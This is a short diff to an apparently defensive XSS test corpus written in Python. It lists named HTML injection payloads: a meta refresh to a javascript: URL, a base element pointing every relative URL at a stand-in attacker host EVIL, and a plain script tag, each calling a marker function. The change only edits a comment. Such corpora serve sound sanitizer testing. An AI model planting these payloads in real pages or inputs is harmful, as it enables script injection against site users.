@@ -228,7 +228,7 @@ CORPUS: list[tuple[str, str]] = [
         "el-meta-refresh",
         '<meta http-equiv="refresh" content="0;url=javascript:top.__xss(\'el-meta-refresh\')">',
     ),
-    # a base element redirecting every relative URL (and the page's own room.js)
+    # a base element redirecting every relative URL (and the page's own room/main.js)
     ("el-base-href", f'<base href="{EVIL}/">'),
     # a plain script element
     ("el-script", "<script>top.__xss('el-script')</script>"),
